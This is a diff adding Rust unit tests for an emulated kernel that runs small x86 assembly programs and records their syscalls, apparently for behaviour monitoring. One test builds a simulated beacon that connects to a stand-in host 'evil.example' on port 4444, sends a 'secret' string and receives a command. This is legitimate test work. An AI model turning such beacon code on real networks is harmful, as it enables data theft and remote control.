+    let arg_ptrs: Vec<u32> = argv.iter().map(|a| write_str(core, a)).collect();
+    let env_ptrs: Vec<u32> =
+        env.iter().map(|(k, v)| write_str(core, &format!("{k}={v}"))).collect();
+    let mut sp = cursor & !3;
+    let mut push = |core: &mut Core, v: u32| {
+        sp -= 4;
+        core.mem.write_u32(sp, v).expect("stack mapped");
+    };
+    push(core, 0);
+    for &p in env_ptrs.iter().rev() {
+        push(core, p);
+    }
+    push(core, 0);
+    for &p in arg_ptrs.iter().rev() {
+        push(core, p);
+    }
+    push(core, argv.len() as u32);
+    core.cpu.set(Reg::Esp, sp);
+    (sp, top)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use hth_vm::{NullHooks, StepEvent};
+
+    /// Runs a registered binary to completion without any monitor,
+    /// servicing syscalls; returns the records and the kernel.
+    fn run(kernel: &mut Kernel, path: &str, argv: &[&str]) -> (Vec<SyscallRecord>, Process) {
+        let mut proc = kernel.spawn(path, argv, &[]).unwrap();
+        let mut records = Vec::new();
+        for _ in 0..200_000 {
+            if !proc.runnable() {
+                break;
+            }
+            match proc.core.step(&mut NullHooks).unwrap() {
+                StepEvent::Continue => {}
+                StepEvent::Halted => break,
+                StepEvent::Interrupt(0x80) => {
+                    let rec = kernel.syscall(&mut proc);
+                    records.push(rec);
+                }
+                StepEvent::Interrupt(_) => break,
+            }
+        }
+        (records, proc)
+    }
+
+    #[test]
+    fn spawn_builds_runnable_process_with_argv() {
+        let mut kernel = Kernel::new();
+        kernel.register_binary(
+            "/bin/echoargs",
+            r"
+            _start:
+                mov eax, [esp]      ; argc
+                hlt
+            ",
+            &[],
+        );
+        let mut proc = kernel.spawn("/bin/echoargs", &["/bin/echoargs", "a", "bb"], &[]).unwrap();
+        while proc.core.step(&mut NullHooks).unwrap() == StepEvent::Continue {}
+        assert_eq!(proc.core.cpu.get(Reg::Eax), 3);
+        let (lo, hi) = proc.initial_stack;
+        assert!(lo < hi && hi <= STACK_TOP);
+    }
+
+    #[test]
+    fn open_write_read_close_cycle() {
+        let mut kernel = Kernel::new();
+        kernel.register_binary(
+            "/bin/filer",
+            r#"
+            .equ SYS_read, 3
+            .equ SYS_write, 4
+            .equ SYS_open, 5
+            .equ SYS_close, 6
+            .equ SYS_exit, 1
+            .equ O_CREAT, 0x40
+            _start:
+                mov eax, SYS_open
+                mov ebx, path
+                mov ecx, O_CREAT
+                int 0x80
+                mov esi, eax        ; fd
+                mov eax, SYS_write
+                mov ebx, esi
+                mov ecx, msg
+                mov edx, 5
+                int 0x80
+                mov eax, SYS_close
+                mov ebx, esi
+                int 0x80
+                mov eax, SYS_exit
+                mov ebx, 0
+                int 0x80
+            .data
+            path: .asciz "/tmp/out"
+            msg:  .asciz "hello"
+            "#,
+            &[],
+        );
+        let (records, proc) = run(&mut kernel, "/bin/filer", &["/bin/filer"]);
+        assert_eq!(proc.state, ProcState::Exited(0));
+        assert_eq!(kernel.vfs.get("/tmp/out").unwrap().data(), b"hello");
+        assert!(matches!(records[0].effect, SyscallEffect::Open { fd: 3, .. }));
+        assert!(matches!(
+            &records[1].effect,
+            SyscallEffect::Write { resource: Resource::File { path, .. }, len: 5, .. }
+            if path == "/tmp/out"
+        ));
+        assert!(matches!(records[2].effect, SyscallEffect::Close { .. }));
+    }
+
+    #[test]
+    fn stdin_is_scripted_user_input() {
+        let mut kernel = Kernel::new();
+        kernel.push_stdin(b"secret".to_vec());
+        kernel.register_binary(
+            "/bin/reader",
+            r"
+            _start:
+                mov eax, 3          ; read
+                mov ebx, 0          ; stdin
+                mov ecx, 0x09000000 ; scratch
+                mov edx, 64
+                int 0x80
+                hlt
+            ",
+            &[],
+        );
+        let (records, proc) = run(&mut kernel, "/bin/reader", &["r"]);
+        assert_eq!(records[0].ret, 6);
+        assert!(matches!(records[0].effect, SyscallEffect::Read { resource: Resource::Stdin, .. }));
+        assert_eq!(proc.core.mem.read_bytes(0x0900_0000, 6).unwrap(), b"secret");
+    }
+
+    #[test]
+    fn execve_reports_and_logs() {
+        let mut kernel = Kernel::new();
+        kernel.register_binary(
+            "/bin/launcher",
+            r#"
+            _start:
+                mov eax, 11
+                mov ebx, prog
+                int 0x80
+                hlt
+            .data
+            prog: .asciz "/bin/ls"
+            "#,
+            &[],
+        );
+        let (records, _) = run(&mut kernel, "/bin/launcher", &["l"]);
+        assert_eq!(records[0].name, "SYS_execve");
+        assert!(matches!(
+            &records[0].effect,
+            SyscallEffect::ExecRequested { path, found: false, .. } if path == "/bin/ls"
+        ));
+        assert_eq!(kernel.exec_log, vec!["/bin/ls".to_string()]);
+        assert_eq!(records[0].ret, -errno::ENOENT);
+    }
+
+    #[test]
+    fn fork_clones_and_resumes_child() {
+        let mut kernel = Kernel::new();
+        kernel.register_binary(
+            "/bin/forker",
+            r"
+            _start:
+                mov eax, 2          ; fork
+                int 0x80
+                hlt
+            ",
+            &[],
+        );
+        let mut parent = kernel.spawn("/bin/forker", &["f"], &[]).unwrap();
+        // Step to the interrupt.
+        while parent.core.step(&mut NullHooks).unwrap() == StepEvent::Continue {}
+        let rec = kernel.syscall(&mut parent);
+        assert!(matches!(rec.effect, SyscallEffect::ForkRequested));
+        let child = kernel.fork(&parent);
+        parent.core.cpu.set(Reg::Eax, child.pid);
+        assert_eq!(child.core.cpu.get(Reg::Eax), 0);
+        assert_eq!(child.parent, parent.pid);
+        assert_ne!(child.pid, parent.pid);
+        assert_eq!(kernel.fork_ticks.len(), 1);
+    }
+
+    #[test]
+    fn socket_client_round_trip() {
+        use crate::net::Peer;
+        let mut kernel = Kernel::new();
+        kernel.net.add_host("evil.example", 0x0808_0808);
+        kernel.net.add_peer(
+            Endpoint { ip: 0x0808_0808, port: 4444 },
+            Peer { replies: [b"cmd".to_vec()].into(), ..Peer::default() },
+        );
+        kernel.register_binary(
+            "/bin/beacon",
+            r#"
+            .equ SCRATCH, 0x09000000
+            _start:
+                ; socket()
+                mov eax, 102
+                mov ebx, 1
+                mov ecx, sockargs
+                int 0x80
+                mov esi, eax                ; fd
+                ; connect(fd, &addr, 8)
+                mov [connargs], esi
+                mov eax, 102
+                mov ebx, 3
+                mov ecx, connargs
+                int 0x80
+                ; send(fd, secret, 6, 0)
+                mov [sendargs], esi
+                mov eax, 102
+                mov ebx, 9
+                mov ecx, sendargs
+                int 0x80
+                ; recv(fd, SCRATCH, 16, 0)
+                mov [recvargs], esi
+                mov eax, 102
+                mov ebx, 10
+                mov ecx, recvargs
+                int 0x80
+                hlt
+            .data
+            sockargs: .long 2, 1, 0
+            addr:     .word 2
+            port:     .word 4444
+            ip:       .long 0x08080808
+            connargs: .long 0, addr, 8
+            secret:   .asciz "secret"
+            sendargs: .long 0, secret, 6, 0
+            recvargs: .long 0, 0x09000000, 16, 0
+            "#,
+            &[],
+        );
+        let (records, proc) = run(&mut kernel, "/bin/beacon", &["b"]);
+        assert!(matches!(records[0].effect, SyscallEffect::SocketCreated { fd: 3 }));
+        assert!(matches!(
+            records[1].effect,
+            SyscallEffect::Connect { endpoint: Endpoint { ip: 0x0808_0808, port: 4444 }, .. }
+        ));
+        assert!(matches!(records[2].effect, SyscallEffect::Write { len: 6, .. }));
+        assert!(matches!(records[3].effect, SyscallEffect::Read { len: 3, .. }));
+        assert_eq!(
+            kernel.net.peer_received(Endpoint { ip: 0x0808_0808, port: 4444 }),
+            &[b"secret".to_vec()]
+        );
+        assert_eq!(proc.core.mem.read_bytes(0x0900_0000, 3).unwrap(), b"cmd");
+    }
+
+    #[test]
+    fn resolve_syscall_resolves_dns() {
+        let mut kernel = Kernel::new();
+        kernel.net.add_host("pop.mail.yahoo.com", 0x0101_0101);
+        kernel.register_binary(
+            "/bin/dns",
+            r#"
+            _start:
+                mov eax, 200
+                mov ebx, host
+                int 0x80
+                hlt
+            .data
+            host: .asciz "pop.mail.yahoo.com"
+            "#,
+            &[],
+        );
+        let (records, proc) = run(&mut kernel, "/bin/dns", &["d"]);
+        assert!(matches!(
+            &records[0].effect,
+            SyscallEffect::Resolve { name, ok: true, .. } if name == "pop.mail.yahoo.com"
+        ));
+        assert_eq!(proc.core.cpu.get(Reg::Eax), 0x0101_0101);
+    }
+
+    #[test]
+    fn nanosleep_advances_clock() {
+        let mut kernel = Kernel::new();
+        kernel.register_binary(
+            "/bin/sleepy",
+            "_start:\n mov eax, 162\n mov ebx, 500\n int 0x80\n hlt\n",
+            &[],
+        );
+        assert_eq!(kernel.now(), 0);
+        let (records, _) = run(&mut kernel, "/bin/sleepy", &["s"]);
+        assert!(matches!(records[0].effect, SyscallEffect::Sleep { ticks: 500 }));
+        assert_eq!(kernel.now(), 500);
+    }
+
+    #[test]
+    fn instruction_accounting_ticks() {
+        let mut kernel = Kernel::new();
+        kernel.set_instr_per_tick(10);
+        kernel.note_instructions(25);
+        assert_eq!(kernel.now(), 2);
+        kernel.note_instructions(5);
+        assert_eq!(kernel.now(), 3);
+    }
+
+    #[test]
+    fn mknod_creates_fifo_and_io_works() {
+        let mut kernel = Kernel::new();
+        kernel.register_binary(
+            "/bin/piper",
+            r#"
+            _start:
+                mov eax, 14          ; mknod
+                mov ebx, pipe_name
+                mov ecx, 0x1000
+                int 0x80
+                mov eax, 5           ; open
+                mov ebx, pipe_name
+                mov ecx, 0x1
+                int 0x80
+                mov esi, eax
+                mov eax, 4           ; write
+                mov ebx, esi
+                mov ecx, data
+                mov edx, 3
+                int 0x80
+                hlt
+            .data
+            pipe_name: .asciz "inpipe1"
+            data: .asciz "ok!"
+            "#,
+            &[],
+        );
+        let (records, _) = run(&mut kernel, "/bin/piper", &["p"]);
+        assert!(matches!(&records[0].effect, SyscallEffect::Mknod { path, .. } if path == "inpipe1"));
+        assert!(matches!(
+            &records[2].effect,
+            SyscallEffect::Write { resource: Resource::File { fifo: true, .. }, .. }
+        ));
+        assert_eq!(kernel.vfs.read("inpipe1", 0, 10).unwrap(), b"ok!");
+    }
+}
